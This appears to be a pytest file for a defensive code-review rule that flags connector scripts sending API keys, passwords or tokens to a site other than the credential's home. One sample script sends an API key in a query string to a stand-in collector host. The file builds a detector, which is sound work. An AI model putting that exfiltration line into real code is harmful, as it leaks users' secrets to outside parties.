"""credential-spread: a secret reaching a site other than its home (an error an engineer may waive)."""

import pytest

from tests.review.dataflow_cases import HONEST, ROWS, finding, flow_review, honest, rules, sample

RULE = "credential-spread"
TWO_SOURCES = ("api.example.com", "files.example-cdn.net")
BOTH = [sample("https://api.example.com/rows", ROWS),
        sample("https://files.example-cdn.net/more.json", [{"id": "extra-000001", "name": "Extra one"}])]
MORE = ("var more = JSON.parse(httprequest.get('https://files.example-cdn.net/more.json'));\n"
        "more.forEach(function (r) { datagrid.addCell(r.id); datagrid.addCell(r.name); datagrid.endRow(); });\n")
API_ROWS = "addRows(JSON.parse(httprequest.get('https://api.example.com/rows')));\n"


def test_it_fails_when_a_header_carries_the_key_to_a_second_site_naming_both():
    found = finding(honest("header set once and carried to a second declared host"), RULE)
    assert found.severity == "error" and found.phase == "security"
    assert "apikey (metadata.account.apikey) in the authorization header of GET to files.example-cdn.net" in found.message
    assert "the secret's home is example.com, and site example-cdn.net is another site." in found.message


def test_it_warns_for_the_password_sent_to_two_source_sites():
    basic = ("httprequest.addHeader('Authorization', 'Basic ' + DOMO.b64EncodeUnicode("
             "metadata.account.username + ':' + metadata.account.password));\n")
    result = flow_review(basic + API_ROWS + MORE, BOTH, hosts=TWO_SOURCES, auth={"method": "username_password"},
                         account={"username": "tester", "password": "pw-sample-123"})
    assert "(metadata.account.password)" in finding(result, RULE).message
    assert "data-exfiltration" not in rules(result)


def test_it_warns_beside_exfiltration_when_the_second_site_is_a_sink():
    result = flow_review("httprequest.addHeader('X-Api-Key', metadata.account.apikey);\n" + API_ROWS +
                         "httprequest.clearHeaders();\n"
                         "httprequest.get('https://x.example-collector.net/?k=' + metadata.account.apikey);\n",
                         [sample("https://api.example.com/rows", ROWS)], hosts=("api.example.com", "x.example-collector.net"))
    assert {RULE, "data-exfiltration"} <= rules(result)


def test_it_follows_a_custom_field_marked_secret():
    auth = {"method": "custom", "fields": [{"key": "tenant", "label": "Tenant", "secret": False},
                                           {"key": "token", "label": "Token", "secret": True}]}
    result = flow_review("httprequest.addHeader('X-Token', metadata.account.token);\n" + API_ROWS + MORE, BOTH,
                         hosts=TWO_SOURCES, auth=auth, account={"tenant": "tenant-acme", "token": "tok-sample-4455"})
    assert "(metadata.account.token)" in finding(result, RULE).message


def test_it_follows_an_oauth_access_token_in_the_query():
    result = flow_review(
        "addRows(JSON.parse(httprequest.get('https://api.example.com/rows?access_token=' + metadata.account.accesstoken)));\n"
        "var more = JSON.parse(httprequest.get('https://files.example-cdn.net/more.json?t=' + metadata.account.accesstoken));\n"
        "more.forEach(function (r) { datagrid.addCell(r.id); datagrid.addCell(r.name); datagrid.endRow(); });\n",
        [{"method": "GET", "url_prefix": "https://api.example.com/rows", "status": 200, "body": __import__("json").dumps(ROWS)},
         {"method": "GET", "url_prefix": "https://files.example-cdn.net/more.json", "status": 200,
          "body": '[{"id": "extra-000001", "name": "Extra one"}]'}],
        hosts=TWO_SOURCES, auth={"method": "oauth2"}, account={"accesstoken": "oauth-sample-token-77"})
    assert "(metadata.account.accesstoken)" in finding(result, RULE).message


def test_it_follows_the_key_base64_encoded():
    result = flow_review("httprequest.addHeader('X-Key', DOMO.b64EncodeUnicode(metadata.account.apikey));\n" + API_ROWS + MORE,
                         BOTH, hosts=TWO_SOURCES)
    assert RULE in rules(result)


@pytest.mark.parametrize("name", sorted(set(HONEST) - {"header set once and carried to a second declared host"}))
def test_honest_near_misses_keep_the_credentials_on_one_site(name):
    assert RULE not in rules(honest(name))


def test_values_that_are_not_secret_may_go_anywhere():
    auth = {"method": "custom", "fields": [{"key": "tenant", "label": "Tenant", "secret": False}]}
    result = flow_review("httprequest.addHeader('X-Tenant', metadata.account.tenant);\n" + API_ROWS + MORE, BOTH,
                         hosts=TWO_SOURCES, auth=auth, account={"tenant": "tenant-acme"})
    assert RULE not in rules(result)
